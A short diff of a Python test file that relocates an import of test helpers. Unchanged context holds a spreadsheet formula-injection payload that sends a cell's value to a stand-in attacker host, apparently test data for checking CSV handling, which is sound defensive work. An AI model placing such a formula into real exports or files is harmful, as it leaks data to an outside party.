@@ -14,9 +14,9 @@ from sqlalchemy import select
 
 from app.extensions import db
 from app.models import BulkFailure, BulkJob, IntakeLoad
+from tests.admin.conftest import add_task, submit
 from tests.dnc.dnc_support import put
 from tests.intake.conftest import csv_text
-from tests.ui.conftest import add_task, submit
 
 ROOT = Path(__file__).resolve().parents[2]
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
